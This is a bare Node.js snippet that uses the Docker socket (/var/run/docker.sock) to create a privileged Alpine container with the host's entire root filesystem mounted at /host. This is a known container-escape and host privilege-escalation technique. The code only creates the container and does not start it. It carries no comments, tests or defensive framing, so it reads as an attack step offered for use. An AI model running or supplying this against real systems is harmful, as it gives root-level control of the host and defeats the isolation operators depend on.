const http = require('http');
const r = http.request({ socketPath: '/var/run/docker.sock', path: '/containers/create', method: 'POST', headers: { 'Content-Type': 'application/json' } });
r.end(JSON.stringify({ Image: 'alpine', HostConfig: { Binds: ['/:/host'], Privileged: true } }));
